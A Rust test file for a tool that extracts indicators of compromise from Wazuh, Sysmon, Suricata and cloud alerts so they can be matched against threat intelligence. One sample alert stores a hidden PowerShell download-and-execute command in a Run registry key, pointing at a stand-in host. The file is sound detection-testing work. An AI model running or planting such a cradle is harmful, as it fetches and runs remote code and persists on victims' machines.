//! Every sample alert in `tests/fixtures/alerts/` yields exactly the candidates its
//! README lists (field path → value → kind), no more, no less.
//!
//! The samples use the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
//! 203.0.113.0/24, 2001:db8::/32) for their "public" addresses. Those are NOT
//! public, so the main assertion runs with `skip_non_public` on (as the README's
//! private negative cases require) **and** the test switch
//! `documentation_is_public`; each test then checks that with the default options
//! those addresses are skipped as documentation addresses.
//!
//! How README rows map to candidates:
//! - "host of the URL (url_host)" rows are not separate candidates: the matcher
//!   derives a URL's host (method `url_host`). They are checked as the host of a URL
//!   candidate from the same field.
//! - Rows that repeat a value ("deduplicate") collapse into the first field.
//! - Private/ULA rows are skipped (listed under `skipped`), never candidates.
//! - Rows of kind `-`/(none) are never candidates; the all-zero imphash is skipped.
//! - Choices where the README says "optional" or is silent, noted per file:
//!   `sourceHostname` of an outbound connection is the agent itself and not read;
//!   `tls.subject`'s CN is read (it equals the SNI here, so it collapses);
//!   `ja3` and the certificate fingerprint are kind `hash` (the catch-all digest
//!   kind); `syscheck.*_before` is not read (each was the `_after` of an earlier
//!   event; here they are the empty file's digests).

use std::collections::BTreeSet;
use std::path::PathBuf;

use intelmatch::wazuh::extract::{extract, is_own_event, parse_alert, ExtractOptions, Extraction};
use intelmatch::wazuh::json::Json;
use matcher::normalize::{self, Host};
use matcher::Kind;
use serde_json::Value;

fn fixtures() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/alerts")
}

fn load(name: &str) -> Value {
    let bytes = std::fs::read(fixtures().join(name)).unwrap();
    parse_alert(&bytes)
        .unwrap_or_else(|e| panic!("{name}: {e}"))
        .to_value()
}

/// Skip non-public addresses, but take the documentation ranges as public.
fn test_opts() -> ExtractOptions {
    ExtractOptions {
        skip_non_public: true,
        documentation_is_public: true,
        ..ExtractOptions::default()
    }
}

type Row<'a> = (&'a str, Kind, &'a str, bool);

struct Expect<'a> {
    /// (field, kind, value, from_text)
    candidates: &'a [Row<'a>],
    /// (field of a URL candidate, its host)
    url_hosts: &'a [(&'a str, &'a str)],
    /// Values skipped as non-public (private, ULA, …) even with the test switch.
    non_public: &'a [&'a str],
}

fn set(e: &Extraction) -> BTreeSet<(String, Kind, String, bool)> {
    e.candidates
        .iter()
        .map(|c| (c.field.clone(), c.kind, c.value.clone(), c.from_text))
        .collect()
}

fn check(name: &str, want: Expect) {
    let alert = load(name);
    let got = extract(&Json::from(&alert), &test_opts());

    // Exactly the listed candidates, each once.
    let expected: BTreeSet<(String, Kind, String, bool)> = want
        .candidates
        .iter()
        .map(|&(f, k, v, t)| (f.to_string(), k, v.to_string(), t))
        .collect();
    assert_eq!(
        got.candidates.len(),
        expected.len(),
        "{name}: {:#?}",
        got.candidates
    );
    assert_eq!(set(&got), expected, "{name}");
    assert!(!got.truncated, "{name}");

    // URL hosts, looked up by the matcher through the URL.
    for &(field, host) in want.url_hosts {
        let found = got.candidates.iter().any(|c| {
            c.kind == Kind::Url
                && c.field == field
                && match normalize::url(&c.value).ok().and_then(|u| u.host) {
                    Some(Host::Domain(d)) => d == host,
                    Some(Host::Ip(ip)) => ip.to_string() == host,
                    None => false,
                }
        });
        assert!(found, "{name}: no URL with host {host} from {field}");
    }

    // Private negative cases: skipped, with their class.
    for &v in want.non_public {
        assert!(
            got.skipped
                .iter()
                .any(|s| s.value == v && s.reason.starts_with("non-public address")),
            "{name}: {v} not skipped: {:#?}",
            got.skipped
        );
        assert!(!got.candidates.iter().any(|c| c.value == v), "{name}: {v}");
    }

    // With the defaults the documentation addresses are skipped too; everything
    // else is unchanged.
    let default = extract(&Json::from(&alert), &ExtractOptions::default());
    let (doc_ips, rest): (Vec<_>, Vec<_>) =
        expected.iter().cloned().partition(|(_, k, _, _)| k.is_ip());
    assert_eq!(
        set(&default),
        rest.into_iter().collect(),
        "{name} (defaults)"
    );
    for (_, _, v, _) in doc_ips {
        assert!(
            default
                .skipped
                .iter()
                .any(|s| s.value == v && s.reason == "non-public address (documentation)"),
            "{name}: {v} with defaults: {:#?}",
            default.skipped
        );
    }

    // None of the samples is one of our own events.
    assert!(
        !is_own_event(&Json::from(&alert), &["intelmatch", "opencti", "misp"]),
        "{name}"
    );
}

const W: &str = "data.win.eventdata";

macro_rules! w {
    ($f:literal) => {
        concat!("data.win.eventdata.", $f)
    };
}

#[test]
fn sysmon_eid1_process_create() {
    check(
        "sysmon-eid1-process-create.json",
        Expect {
            candidates: &[
                (
                    w!("hashes"),
                    Kind::Sha1,
                    "5ec2c1b737c3d01d8d98fb9b3c71d485474d5ccb",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Md5,
                    "840083437f32ccafbf0413706a803b7f",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Sha256,
                    "31b2b4694867ce7f554bfbaef7038cf0909f0eb9ae07f924e12d8e5b258837ac",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Imphash,
                    "dbc0798cc1da48bf61cda38be8816140",
                    false,
                ),
                (w!("image"), Kind::Filename, "winsvcupd.exe", false),
                (
                    w!("commandLine"),
                    Kind::Url,
                    "https://update.badcdn.example.net/a/stage2.ps1",
                    true,
                ),
                (w!("commandLine"), Kind::Ipv4, "198.51.100.23", true),
                // parentCommandLine repeats the URL and the IP; originalFileName the name.
            ],
            url_hosts: &[(w!("commandLine"), "update.badcdn.example.net")],
            non_public: &[],
        },
    );
}

#[test]
fn sysmon_eid1_two_groups() {
    check(
        "sysmon-eid1-two-groups.json",
        Expect {
            candidates: &[
                (
                    w!("hashes"),
                    Kind::Sha1,
                    "044925aa625fd5ba2ff968683e117ff2a044c6c7",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Md5,
                    "4d846e01c712843a8cbc20ddd61a4801",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Sha256,
                    "db9ae241cc93ef165ff59fe6cc4a21102fbdfdad749906f7540dc11411d44d62",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Imphash,
                    "64039c08e5db4277ea8198ce609a42fe",
                    false,
                ),
                (
                    w!("commandLine"),
                    Kind::Url,
                    "https://cdn.badupdates.test/p/setup.cfg",
                    true,
                ),
                // Not in this file's README table, but the same field is listed for
                // sysmon-eid1-process-create.json: an EID 1 image is the file its
                // hashes describe, whatever the rule groups are.
                (w!("image"), Kind::Filename, "setup.exe", false),
            ],
            url_hosts: &[(w!("commandLine"), "cdn.badupdates.test")],
            non_public: &[],
        },
    );
}

#[test]
fn sysmon_eid3_ipv4() {
    check(
        "sysmon-eid3-ipv4.json",
        Expect {
            candidates: &[
                (w!("destinationIp"), Kind::Ipv4, "198.51.100.23", false),
                (
                    w!("destinationHostname"),
                    Kind::Domain,
                    "vps-23.hosting.example.org",
                    false,
                ),
                // sourceHostname ("optional"): the agent itself on an outbound connection.
            ],
            url_hosts: &[],
            non_public: &["10.20.30.42"],
        },
    );
}

#[test]
fn sysmon_eid3_ipv6() {
    check(
        "sysmon-eid3-ipv6.json",
        Expect {
            candidates: &[(w!("destinationIp"), Kind::Ipv6, "2001:db8:bad::10", false)],
            url_hosts: &[],
            non_public: &["fd12:3456:789a:1::42"],
        },
    );
}

#[test]
fn sysmon_eid3_private_detection() {
    check(
        "sysmon-eid3-private-detection.json",
        Expect {
            candidates: &[(
                w!("destinationHostname"),
                Kind::Domain,
                "srv-app-07.corp.example.com",
                false,
            )],
            url_hosts: &[],
            non_public: &["10.20.40.7", "10.20.30.42"],
        },
    );
}

#[test]
fn sysmon_eid6_driver() {
    check(
        "sysmon-eid6-driver.json",
        Expect {
            candidates: &[
                (
                    w!("hashes"),
                    Kind::Sha1,
                    "296c7e55d6f1b7d152a49a57b8a5ac3a5789f268",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Md5,
                    "5b0f9b1fd4feb9b32e00aa4db57ac44b",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Sha256,
                    "1c0f2e488d5e3f6a5a9385f92fc062e38095bbb4f3dfc83fcd349048bb81d590",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Imphash,
                    "4481ba03e8f93580197cbee249d7ca06",
                    false,
                ),
                (w!("imageLoaded"), Kind::Filename, "rtkio64.sys", false),
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn sysmon_eid7_image_load() {
    check(
        "sysmon-eid7-image-load.json",
        Expect {
            candidates: &[
                (
                    w!("hashes"),
                    Kind::Sha1,
                    "40f4811f0c79da6c5a073af8b76d546c6eab9286",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Md5,
                    "8c4ad97d93709d0c1d80d96384cbcc48",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Sha256,
                    "d6452da1be578121b261fbdccfe328d6db97a1387ce2ca657deaf4a143685ab0",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Imphash,
                    "9003a48f24a8f3f5aff24ed3e5d68d50",
                    false,
                ),
                (w!("imageLoaded"), Kind::Filename, "version.dll", false),
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn sysmon_eid15_stream_hash() {
    check(
        "sysmon-eid15-stream-hash.json",
        Expect {
            candidates: &[
                (
                    w!("hash"),
                    Kind::Sha1,
                    "3802372afa6d8323ee61fab385d82a9ed2ba8d05",
                    false,
                ),
                (
                    w!("hash"),
                    Kind::Md5,
                    "6e38507bf6e2cad04cd17ec568f3d2c6",
                    false,
                ),
                (
                    w!("hash"),
                    Kind::Sha256,
                    "615f05681a799515d2dce9f44de21b4e3aca5cbe60aae62de61d6d1069ded5ca",
                    false,
                ),
                (
                    w!("targetFilename"),
                    Kind::Filename,
                    "invoice_0423.zip",
                    false,
                ),
                (
                    w!("contents"),
                    Kind::Url,
                    "https://files.malware-drop.test/inv/invoice_0423.zip",
                    true,
                ),
                (w!("contents"), Kind::Url, "https://mail.example.org/", true),
            ],
            url_hosts: &[(w!("contents"), "files.malware-drop.test")],
            non_public: &[],
        },
    );
    let e = extract(
        &Json::from(&load("sysmon-eid15-stream-hash.json")),
        &test_opts(),
    );
    assert!(e.skipped.iter().any(|s| s.value == "0".repeat(32)
        && s.reason == "all-zero digest"
        && s.field == format!("{W}.hash")));
}

#[test]
fn sysmon_eid22_cname() {
    check(
        "sysmon-eid22-cname.json",
        Expect {
            candidates: &[
                (
                    w!("queryName"),
                    Kind::Domain,
                    "login.portal-update.example.com",
                    false,
                ),
                (
                    w!("queryResults"),
                    Kind::Domain,
                    "portal-update.example.net",
                    false,
                ),
                (w!("queryResults"), Kind::Ipv4, "192.0.2.44", false),
                (w!("queryResults"), Kind::Ipv4, "192.0.2.45", false),
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn sysmon_eid22_mapped_ipv6() {
    check(
        "sysmon-eid22-mapped-ipv6.json",
        Expect {
            candidates: &[
                (w!("queryName"), Kind::Domain, "cdn.badupdates.test", false),
                (w!("queryResults"), Kind::Ipv4, "203.0.113.15", false),
                (w!("queryResults"), Kind::Ipv6, "2001:db8:77::15", false),
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn sysmon_eid23_file_delete() {
    check(
        "sysmon-eid23-file-delete.json",
        Expect {
            candidates: &[
                (
                    w!("hashes"),
                    Kind::Sha1,
                    "56002301d61abff3476cec0d7e6b3e6bfe843562",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Md5,
                    "ea7e38545a187b746e509571faa811a9",
                    false,
                ),
                (
                    w!("hashes"),
                    Kind::Sha256,
                    "1720be48983e620d79cd4372394185dc6964bad70a7021ef20da628ff1f1c030",
                    false,
                ),
                (w!("targetFilename"), Kind::Filename, "dropper.ps1", false),
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn sysmon_linux_eid3() {
    check(
        "sysmon-linux-eid3.json",
        Expect {
            candidates: &[(
                "data.eventdata.DestinationIp",
                Kind::Ipv4,
                "198.51.100.23",
                false,
            )],
            url_hosts: &[],
            non_public: &["10.20.50.11"],
        },
    );
}

#[test]
fn syscheck_added() {
    check(
        "syscheck-added.json",
        Expect {
            candidates: &[
                (
                    "syscheck.md5_after",
                    Kind::Md5,
                    "31bf1d1fd0f4333553eebe3b46ba2f3d",
                    false,
                ),
                (
                    "syscheck.sha1_after",
                    Kind::Sha1,
                    "e3d1917750cc6e1a55d3f1807a99f9451cfb57f1",
                    false,
                ),
                (
                    "syscheck.sha256_after",
                    Kind::Sha256,
                    "4ab5250d7d6cd65ff909b84f9c1be021e01e89ce65ba16d488cad32e506a941a",
                    false,
                ),
                ("syscheck.path", Kind::Filename, "wsh.php", false),
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn syscheck_modified() {
    check(
        "syscheck-modified.json",
        Expect {
            candidates: &[
                (
                    "syscheck.md5_after",
                    Kind::Md5,
                    "663993f2da0b1bcff346acfc2067d0c2",
                    false,
                ),
                (
                    "syscheck.sha1_after",
                    Kind::Sha1,
                    "91f261024291aa4c959fcd3ae33c11622bcf763c",
                    false,
                ),
                (
                    "syscheck.sha256_after",
                    Kind::Sha256,
                    "33d1fb7bb544b6570272ed36d90111e1eed75d5eafced151913e4e41c8510f31",
                    false,
                ),
                ("syscheck.path", Kind::Filename, "backup.sh", false),
                // *_before (the empty file's digests) and full_log are not read.
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn osquery_file_sha256() {
    check(
        "osquery-file-sha256.json",
        Expect {
            candidates: &[
                (
                    "data.osquery.columns.sha256",
                    Kind::Sha256,
                    "eb552430064115733892ae567e5f6f4beb2390ecabfb515f67f7e82244afe2c7",
                    false,
                ),
                (
                    "data.osquery.columns.sha1",
                    Kind::Sha1,
                    "e26b3979ffb08dc5ab58019d92af0ea6c8709ed1",
                    false,
                ),
                (
                    "data.osquery.columns.md5",
                    Kind::Md5,
                    "364faa36481e9c27066fd44cc90f68b5",
                    false,
                ),
                (
                    "data.osquery.columns.target_path",
                    Kind::Filename,
                    "agent.bin",
                    false,
                ),
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn auditd_execve_url() {
    check(
        "auditd-execve-url.json",
        Expect {
            candidates: &[
                (
                    "data.audit.execve.a2",
                    Kind::Url,
                    "http://198.51.100.23:8080/dl/agent.bin",
                    true,
                ),
                ("data.audit.execve.a4", Kind::Filename, "agent.bin", false),
            ],
            url_hosts: &[("data.audit.execve.a2", "198.51.100.23")],
            non_public: &[],
        },
    );
}

#[test]
fn suricata_alert_http() {
    check(
        "suricata-alert-http.json",
        Expect {
            candidates: &[
                ("data.dest_ip", Kind::Ipv4, "198.51.100.23", false),
                (
                    "data.http.hostname",
                    Kind::Domain,
                    "dl.evil-updates.test",
                    false,
                ),
                // http://<hostname><url>: dest_port 80 says plain HTTP to the server
                (
                    "data.http.url",
                    Kind::Url,
                    "http://dl.evil-updates.test/x/run.sh",
                    false,
                ),
            ],
            url_hosts: &[],
            non_public: &["10.20.50.11"],
        },
    );
}

#[test]
fn suricata_alert_tls() {
    check(
        "suricata-alert-tls.json",
        Expect {
            candidates: &[
                ("data.tls.sni", Kind::Domain, "c2.badcdn.example.net", false),
                ("data.dest_ip", Kind::Ipv4, "203.0.113.45", false),
                // x509-sha1 and ja3 in the README: the catch-all digest kind here.
                (
                    "data.tls.fingerprint",
                    Kind::Hash,
                    "4f7a1c9e22d0b5618e03af5bc2119de47036aa18",
                    false,
                ),
                (
                    "data.tls.ja3.hash",
                    Kind::Hash,
                    "e7d705a3286e19ea42f587b344ee6865",
                    false,
                ),
                // tls.subject's CN is the SNI again.
            ],
            url_hosts: &[],
            non_public: &["10.20.30.42"],
        },
    );
}

#[test]
fn suricata_alert_dns() {
    check(
        "suricata-alert-dns.json",
        Expect {
            candidates: &[(
                "data.dns.query[0].rrname",
                Kind::Domain,
                "files.malware-drop.test",
                false,
            )],
            url_hosts: &[],
            non_public: &["10.20.30.42", "10.20.0.53"],
        },
    );
}

#[test]
fn suricata_dns_event() {
    check(
        "suricata-dns-event.json",
        Expect {
            candidates: &[
                (
                    "data.dns.rrname",
                    Kind::Domain,
                    "login.portal-update.example.com",
                    false,
                ),
                (
                    "data.dns.answers[0].rdata",
                    Kind::Domain,
                    "portal-update.example.net",
                    false,
                ),
                ("data.dns.answers[1].rdata", Kind::Ipv4, "192.0.2.44", false),
                ("data.dns.answers[2].rdata", Kind::Ipv4, "192.0.2.45", false),
                // dns.grouped.A[] / CNAME[] repeat the answers.
            ],
            url_hosts: &[],
            non_public: &["10.20.0.53", "10.20.30.42"],
        },
    );
}

#[test]
fn suricata_fileinfo() {
    check(
        "suricata-fileinfo.json",
        Expect {
            candidates: &[
                (
                    "data.fileinfo.sha256",
                    Kind::Sha256,
                    "615f05681a799515d2dce9f44de21b4e3aca5cbe60aae62de61d6d1069ded5ca",
                    false,
                ),
                (
                    "data.fileinfo.sha1",
                    Kind::Sha1,
                    "3802372afa6d8323ee61fab385d82a9ed2ba8d05",
                    false,
                ),
                (
                    "data.fileinfo.md5",
                    Kind::Md5,
                    "6e38507bf6e2cad04cd17ec568f3d2c6",
                    false,
                ),
                (
                    "data.http.hostname",
                    Kind::Domain,
                    "files.malware-drop.test",
                    false,
                ),
                ("data.src_ip", Kind::Ipv4, "198.51.100.77", false),
                (
                    "data.fileinfo.filename",
                    Kind::Filename,
                    "invoice_0423.zip",
                    false,
                ),
                // No URL: with the file flowing server → client the server port is
                // src_port 443 while app_proto says http; nothing is guessed.
            ],
            url_hosts: &[],
            non_public: &["10.20.30.42"],
        },
    );
}

#[test]
fn web_accesslog_attack() {
    check(
        "web-accesslog-attack.json",
        Expect {
            candidates: &[
                ("data.srcip", Kind::Ipv4, "198.51.100.23", false),
                (
                    "data.url",
                    Kind::Url,
                    "http://dl.evil-updates.test/x/run.sh",
                    true,
                ),
            ],
            url_hosts: &[("data.url", "dl.evil-updates.test")],
            non_public: &[],
        },
    );
}

#[test]
fn firewall_multiple_drops() {
    check(
        "firewall-multiple-drops.json",
        Expect {
            candidates: &[("data.dstip", Kind::Ipv4, "192.0.2.200", false)],
            url_hosts: &[],
            non_public: &["10.20.30.42"],
        },
    );
}

#[test]
fn sshd_auth_failed() {
    check(
        "sshd-auth-failed.json",
        Expect {
            candidates: &[("data.srcip", Kind::Ipv4, "203.0.113.45", false)],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn office365_sts_logon() {
    check(
        "office365-sts-logon.json",
        Expect {
            candidates: &[
                ("data.office365.ClientIP", Kind::Ipv4, "203.0.113.45", false),
                (
                    "data.office365.UserId",
                    Kind::Email,
                    "j.doe@contoso.example",
                    false,
                ),
                // ActorIpAddress repeats ClientIP.
            ],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn aws_guardduty() {
    check(
        "aws-guardduty.json",
        Expect {
            candidates: &[(
                "data.aws.service.action.networkConnectionAction.remoteIpDetails.ipAddressV4",
                Kind::Ipv4,
                "198.51.100.23",
                false,
            )],
            url_hosts: &[],
            non_public: &["172.31.20.15"],
        },
    );
    // data.aws.description repeats the address as text: not a second candidate.
    let e = extract(&Json::from(&load("aws-guardduty.json")), &test_opts());
    assert!(!e
        .candidates
        .iter()
        .any(|c| c.field == "data.aws.description"));
}

#[test]
fn manager_sshd_invalid_user() {
    check(
        "manager-sshd-invalid-user.json",
        Expect {
            candidates: &[("data.srcip", Kind::Ipv4, "192.0.2.200", false)],
            url_hosts: &[],
            non_public: &[],
        },
    );
}

#[test]
fn agent_ipv6_colon_name() {
    check(
        "agent-ipv6-colon-name.json",
        Expect {
            candidates: &[
                ("data.srcip", Kind::Ipv6, "2001:db8:bad::77", false),
                ("data.url", Kind::Url, "https://exfil.example.org/c", true),
                // agent.ip / agent.name: envelope, never candidates.
            ],
            url_hosts: &[("data.url", "exfil.example.org")],
            non_public: &[],
        },
    );
}

#[test]
fn no_data_netstat() {
    check(
        "no-data-netstat.json",
        Expect {
            candidates: &[],
            url_hosts: &[],
            non_public: &[],
        },
    );
    let e = extract(
        &Json::from(&load("no-data-netstat.json")),
        &ExtractOptions::default(),
    );
    assert!(e.skipped.is_empty(), "{:?}", e.skipped);
}

/// Every fixture has its test above.
#[test]
fn every_fixture_is_covered() {
    let covered = [
        "sysmon-eid1-process-create.json",
        "sysmon-eid1-two-groups.json",
        "sysmon-eid3-ipv4.json",
        "sysmon-eid3-ipv6.json",
        "sysmon-eid3-private-detection.json",
        "sysmon-eid6-driver.json",
        "sysmon-eid7-image-load.json",
        "sysmon-eid15-stream-hash.json",
        "sysmon-eid22-cname.json",
        "sysmon-eid22-mapped-ipv6.json",
        "sysmon-eid23-file-delete.json",
        "sysmon-linux-eid3.json",
        "syscheck-added.json",
        "syscheck-modified.json",
        "osquery-file-sha256.json",
        "auditd-execve-url.json",
        "suricata-alert-http.json",
        "suricata-alert-tls.json",
        "suricata-alert-dns.json",
        "suricata-dns-event.json",
        "suricata-fileinfo.json",
        "web-accesslog-attack.json",
        "firewall-multiple-drops.json",
        "sshd-auth-failed.json",
        "office365-sts-logon.json",
        "aws-guardduty.json",
        "manager-sshd-invalid-user.json",
        "agent-ipv6-colon-name.json",
        "no-data-netstat.json",
    ];
    let mut files: Vec<String> = std::fs::read_dir(fixtures())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".json"))
        .collect();
    files.sort();
    let mut covered: Vec<String> = covered.iter().map(|s| s.to_string()).collect();
    covered.sort();
    assert_eq!(files, covered);
}

/// Fields real deployments use that the catalog did not read (issue 23 point
/// 11): Windows Filtering Platform connections, Wazuh's own VirusTotal
/// integration alerts, Microsoft Graph security alerts and Sysmon EID 13
/// registry values. Shapes as those producers write them.
#[test]
fn fields_of_wfp_virustotal_ms_graph_and_registry_events_are_read() {
    // (what, alert, the candidates it must yield: field, kind, value)
    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, Kind, &'a str)]);
    let cases: &[Case] = &[
        (
            "Security 5156 (WFP allowed a connection)",
            r#"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"60100","level":3,"groups":["windows","windows_security"]},"agent":{"id":"002","name":"ws-02"},
               "data":{"win":{"system":{"eventID":"5156","providerName":"Microsoft-Windows-Security-Auditing"},
               "eventdata":{"processID":"4","application":"\\\\device\\\\harddiskvolume2\\\\windows\\\\system32\\\\svchost.exe","direction":"%%14593",
               "sourceAddress":"10.0.4.17","sourcePort":"50112","destAddress":"198.51.100.14","destPort":"443","protocol":"6","layerName":"%%14611"}}}}"#,
            &[(
                "data.win.eventdata.destAddress",
                Kind::Ipv4,
                "198.51.100.14",
            )],
        ),
        (
            "VirusTotal integration (rule 87105)",
            r#"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"87105","level":12,"groups":["virustotal"]},"agent":{"id":"003","name":"srv"},
               "data":{"integration":"virustotal","virustotal":{"found":"1","malicious":"1","positives":"41","total":"72",
               "sha1":"3395856ce81f2b7382dee72602f798b642f14140","permalink":"https://www.virustotal.com/gui/file/275a021b/detection",
               "source":{"alert_id":"1700000000.1234","file":"/tmp/eicar.com","md5":"44d88612fea8a8f36de82e1278abb02f","sha1":"3395856ce81f2b7382dee72602f798b642f14140"}}}}"#,
            &[
                (
                    "data.virustotal.source.sha1",
                    Kind::Sha1,
                    "3395856ce81f2b7382dee72602f798b642f14140",
                ),
                (
                    "data.virustotal.source.md5",
                    Kind::Md5,
                    "44d88612fea8a8f36de82e1278abb02f",
                ),
            ],
        ),
        (
            "Microsoft Graph alert_v2 with evidence",
            r##"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"99502","level":10,"groups":["ms-graph"]},"agent":{"id":"000","name":"manager"},
               "data":{"integration":"ms-graph","ms-graph":{"id":"da637551227677560813_-961444813","severity":"high","title":"Suspicious connection",
               "evidence":[{"@odata.type":"#microsoft.graph.security.ipEvidence","ipAddress":"203.0.113.77"},
                           {"@odata.type":"#microsoft.graph.security.urlEvidence","url":"http://payload.evil.example/a.ps1"},
                           {"@odata.type":"#microsoft.graph.security.fileEvidence","fileDetails":{"fileName":"a.exe","sha1":"3395856ce81f2b7382dee72602f798b642f14140","sha256":"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"}},
                           {"@odata.type":"#microsoft.graph.security.deviceEvidence","ipInterfaces":["192.0.2.31","fe80::1"]}]}}}"##,
            &[
                (
                    "data.ms-graph.evidence[0].ipAddress",
                    Kind::Ipv4,
                    "203.0.113.77",
                ),
                (
                    "data.ms-graph.evidence[1].url",
                    Kind::Url,
                    "http://payload.evil.example/a.ps1",
                ),
                (
                    "data.ms-graph.evidence[2].fileDetails.sha256",
                    Kind::Sha256,
                    "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
                ),
                (
                    "data.ms-graph.evidence[2].fileDetails.sha1",
                    Kind::Sha1,
                    "3395856ce81f2b7382dee72602f798b642f14140",
                ),
                (
                    "data.ms-graph.evidence[3].ipInterfaces[0]",
                    Kind::Ipv4,
                    "192.0.2.31",
                ),
            ],
        ),
        (
            "Sysmon EID 13 (a Run key set to a download cradle)",
            r#"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"92302","level":6,"groups":["sysmon","sysmon_eid13_detections"]},"agent":{"id":"004","name":"ws-04"},
               "data":{"win":{"system":{"eventID":"13"},"eventdata":{"eventType":"SetValue","image":"C:\\\\Windows\\\\System32\\\\reg.exe",
               "targetObject":"HKU\\\\S-1-5-21-1\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd",
               "details":"powershell -w hidden -c iwr http://cradle.evil.example/s.ps1 | iex"}}}}"#,
            &[
                (
                    "data.win.eventdata.details",
                    Kind::Url,
                    "http://cradle.evil.example/s.ps1",
                ),
                (
                    "data.win.eventdata.targetObject",
                    Kind::Regkey,
                    r"hkey_users\s-1-5-21-1\software\microsoft\windows\currentversion\run\upd",
                ),
            ],
        ),
    ];
    for (what, alert, want) in cases {
        let json = parse_alert(alert.as_bytes()).unwrap_or_else(|e| panic!("{what}: {e}"));
        let got = extract(&json, &test_opts());
        for (field, kind, value) in *want {
            assert!(
                got.candidates
                    .iter()
                    .any(|c| c.field == *field && c.kind == *kind && c.value == *value),
                "{what}: no {kind:?} {value} from {field}; got {:?}",
                got.candidates
                    .iter()
                    .map(|c| (&c.field, c.kind, &c.value))
                    .collect::<Vec<_>>()
            );
        }
    }
}

/// Custom decoders put IoCs under `data` where no catalog rule looks (issue 23
/// point 7): whole strong values are looked up with their path as the field;
/// identifiers, versions, sentences and the event's own metadata are not.
#[test]
fn unknown_data_fields_with_whole_strong_values_are_looked_up() {
    let alert = r#"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"100500","level":5,"groups":["mail"]},
        "agent":{"id":"000","name":"manager","ip":"203.0.113.200"},"full_log":"from=evil@phish.example 203.0.113.99",
        "data":{"mail":{"from":"Billing <billing@phish.example>","sender":"billing@phish.example","subject":"Invoice 4471 from https://pay.example.com",
                        "links":["https://pay.phish.example/login","not a link"],"relay":"203.0.113.9","helo":"mx1.phish.example.com",
                        "id":"a6c7d8e9f0a1b2c3d4e5f60718293a4b","attachment":{"sha256":"275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F","name":"invoice.zip"}},
                "app":{"version":"1.0.3.0","build":"10.0.19041.1"}}}"#;
    let json = parse_alert(alert.as_bytes()).unwrap();
    let got = extract(&json, &test_opts());
    let fields: BTreeSet<(String, Kind, String)> = got
        .candidates
        .iter()
        .map(|c| (c.field.clone(), c.kind, c.value.clone()))
        .collect();
    let want: BTreeSet<(String, Kind, String)> = [
        ("data.mail.sender", Kind::Email, "billing@phish.example"),
        (
            "data.mail.links[0]",
            Kind::Url,
            "https://pay.phish.example/login",
        ),
        ("data.mail.relay", Kind::Ipv4, "203.0.113.9"),
        ("data.mail.helo", Kind::Domain, "mx1.phish.example.com"),
        (
            "data.mail.attachment.sha256",
            Kind::Sha256,
            "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
        ),
    ]
    .iter()
    .map(|(f, k, v)| (f.to_string(), *k, v.to_string()))
    .collect();
    // Not: `from` (a display name around the address), the subject (a
    // sentence), `id` (a 32-hex identifier), versions and builds (they parse
    // as addresses), the envelope and `full_log`. `invoice.zip` may come out
    // as a host name: `.zip` is a real top-level domain (as in `detect`).
    let extra: Vec<_> = fields.difference(&want).collect();
    let missing: Vec<_> = want.difference(&fields).collect();
    assert!(missing.is_empty(), "missing {missing:?}");
    assert!(
        extra
            .iter()
            .all(|(f, _, _)| f == "data.mail.attachment.name"),
        "unexpected {extra:?}"
    );

    let off = ExtractOptions {
        unknown_fields: false,
        ..test_opts()
    };
    assert!(extract(&json, &off).candidates.is_empty());
}
